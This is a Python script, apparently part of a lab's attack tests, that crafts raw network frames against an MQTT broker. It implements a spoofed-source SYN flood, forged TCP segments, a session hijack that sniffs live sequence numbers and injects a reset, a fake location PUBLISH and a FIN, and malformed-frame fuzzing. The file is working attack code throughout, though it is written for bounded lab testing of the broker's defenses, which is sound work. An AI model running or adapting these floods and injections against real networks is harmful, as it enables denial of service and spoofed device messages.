#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""Hand-made frames for the attack tests, sent from inside a namespace of the lab. Bounded in count.

  frames.py syn-flood N        SYNs from spoofed addresses of the devices' network to the intercepted broker
  frames.py forge PORT         segments that pretend to belong to the connection from that local port
  frames.py foreign PORT MAC   a RST, a PUBLISH and a FIN with the very numbers of the connection from that local port, once it has
                               heard them; from another MAC; with "own" for MAC the RST alone, from the device's own
  frames.py garbage N          frames that make little sense, at every layer
"""
import os
import random
import socket
import struct
import sys
import time

BROKER = "203.0.113.7"
GATEWAY = {"vlan20": "10.20.0.1", "wan0": "10.30.0.1"}


def interface():
    return next(name for name in ("vlan20", "wan0") if os.path.exists(f"/sys/class/net/{name}"))


def gateway_mac(name):
    probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    probe.sendto(b"x", (GATEWAY[name], 9))
    for _ in range(40):
        for line in open("/proc/net/arp", encoding="ascii").read().splitlines()[1:]:
            words = line.split()
            if words[0] == GATEWAY[name] and words[3] != "00:00:00:00:00:00":
                return bytes.fromhex(words[3].replace(":", ""))
        time.sleep(0.05)
    raise SystemExit("no gateway")


def own_mac(name):
    return bytes.fromhex(open(f"/sys/class/net/{name}/address", encoding="ascii").read().strip().replace(":", ""))


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def ipv4(source, destination, protocol, payload, **change):
    header = struct.pack("!BBHHHBBH4s4s", change.get("version", 0x45), 0, change.get("length", 20 + len(payload)), 0,
                         change.get("fragment", 0x4000), 64, protocol, 0, socket.inet_aton(source), socket.inet_aton(destination))
    return header[:10] + struct.pack("!H", checksum(header)) + header[12:] + payload


def tcp(source, destination, source_port, destination_port, flags, seq=0, ack=0, window=1024, payload=b"", options=b""):
    offset = (20 + len(options)) // 4
    header = struct.pack("!HHIIBBHHH", source_port, destination_port, seq, ack, offset << 4, flags, window, 0, 0) + options
    pseudo = socket.inet_aton(source) + socket.inet_aton(destination) + struct.pack("!BBH", 0, 6, len(header) + len(payload))
    total = checksum(pseudo + header + payload)
    return ipv4(source, destination, 6, header[:16] + struct.pack("!H", total) + header[18:] + payload)


class Wire:
    def __init__(self):
        self.name = interface()
        self.sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
        self.sock.bind((self.name, 0))
        self.head = gateway_mac(self.name) + own_mac(self.name)

    def send(self, packet, ethertype=0x0800):
        self.raw(self.head + struct.pack("!H", ethertype) + packet)

    def raw(self, frame):
        try:
            self.sock.send(frame)
        except OSError:  # longer or shorter than the interface takes
            pass


def syn_flood(count):
    wire, begun = Wire(), time.monotonic()
    sink = random.Random(1)
    for i in range(count):
        source = f"10.20.{1 + i % 3}.{1 + sink.randrange(254)}"
        wire.send(tcp(source, BROKER, 1024 + sink.randrange(60000), 1883, 2, seq=sink.randrange(1 << 32), options=b"\2\4\5\xb4"))
        if i % 200 == 199:  # about 20,000 a second
            time.sleep(max(0.0, begun + i / 20000 - time.monotonic()))
    print(f"{count} SYNs in {time.monotonic() - begun:.1f} s")


def forge(port):
    wire, sink = Wire(), random.Random(2)
    sent = 0
    for flags in (4, 20, 2, 18, 17, 16, 24, 0, 0x3f, 1):
        for _ in range(300):
            payload = b"\x30\x05\0\1axx" if flags & 8 else b""
            wire.send(tcp("10.20.0.10", BROKER, port, 1883, flags, seq=sink.randrange(1 << 32), ack=sink.randrange(1 << 32),
                          payload=payload))
            sent += 1
            if sent % 100 == 0:
                time.sleep(0.01)
    print(f"{sent} forged segments")


def foreign(port, mac):
    """Says "listening", then waits for a segment with data of the connection from that port, and for its acknowledgement."""
    wire = Wire()
    ear = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    ear.bind((wire.name, 3))
    ear.settimeout(10)
    print("listening", flush=True)
    following = acknowledged = source = None
    while following is None or acknowledged != following:
        frame = ear.recv(2048)
        if frame[12:14] == b"\x81\x00":  # what this side sends has its tag yet
            frame = frame[:12] + frame[16:]
        if frame[12:14] != b"\x08\x00" or frame[23] != 6:
            continue
        head = 14 + (frame[14] & 15) * 4
        ports, (seq, ack) = struct.unpack("!HH", frame[head:head + 4]), struct.unpack("!II", frame[head + 4:head + 12])
        data = 14 + struct.unpack("!H", frame[16:18])[0] - head - (frame[head + 12] >> 4) * 4
        if ports == (port, 1883) and data > 0:
            following, source, answer = (seq + data) & 0xffffffff, socket.inet_ntoa(frame[26:30]), ack
        elif ports == (1883, port) and following is not None:
            acknowledged, answer = ack, (seq + data) & 0xffffffff
    time.sleep(0.2)  # what the other side still had to say
    if mac != "own":
        wire.head = wire.head[:6] + bytes.fromhex(mac.replace(":", ""))
    hello = b"\x30\x19\0\x13trucks/001/locationmad"
    for flags, payload in ((4, b""),) if mac == "own" else ((4, b""), (24, hello), (17, b"")):
        wire.send(tcp(source, BROKER, port, 1883, flags, seq=following, ack=answer, payload=payload))
    print("sent")


def garbage(count):
    wire, sink = Wire(), random.Random(3)
    own = GATEWAY[wire.name].rsplit(".", 1)[0] + ".57"
    for i in range(count):
        kind = i % 10
        if kind == 0:
            wire.raw(sink.randbytes(sink.randrange(14, 1500)))
        elif kind == 1:
            wire.send(sink.randbytes(sink.randrange(0, 200)))
        elif kind == 2:
            wire.send(sink.randbytes(sink.randrange(0, 100)), sink.choice((0x0806, 0x86dd, 0x8100, 0x88cc)))
        elif kind == 3:
            wire.send(ipv4(own, BROKER, sink.randrange(256), sink.randbytes(40)))
        elif kind == 4:
            wire.send(ipv4(own, BROKER, 6, sink.randbytes(30), fragment=sink.randrange(65536)))
        elif kind == 5:
            good = bytearray(tcp(own, BROKER, 4000, 1883, 16, payload=b"x" * sink.randrange(50)))
            good[sink.randrange(len(good))] ^= 1 << sink.randrange(8)
            wire.send(bytes(good))
        elif kind == 6:
            wire.send(tcp(own, BROKER, 4000, 1883, sink.randrange(256), options=sink.randbytes(40)))
        elif kind == 7:
            wire.send(ipv4(own, GATEWAY[wire.name], 1, b"\x03\x04\0\0" + sink.randbytes(sink.randrange(40))))
        elif kind == 8:
            wire.send(ipv4(own, BROKER, 17, sink.randbytes(sink.randrange(20)), length=sink.randrange(65536)))
        else:
            wire.send(b"\0\1\x08\0\6\4\0" + bytes([sink.randrange(4)]) + sink.randbytes(20), 0x0806)
        if i % 100 == 99:
            time.sleep(0.01)
    print(f"{count} frames")


def main():
    command, number = sys.argv[1], int(sys.argv[2])
    {"syn-flood": syn_flood, "forge": forge, "garbage": garbage, "foreign": foreign}[command](number, *sys.argv[3:])


if __name__ == "__main__":
    main()
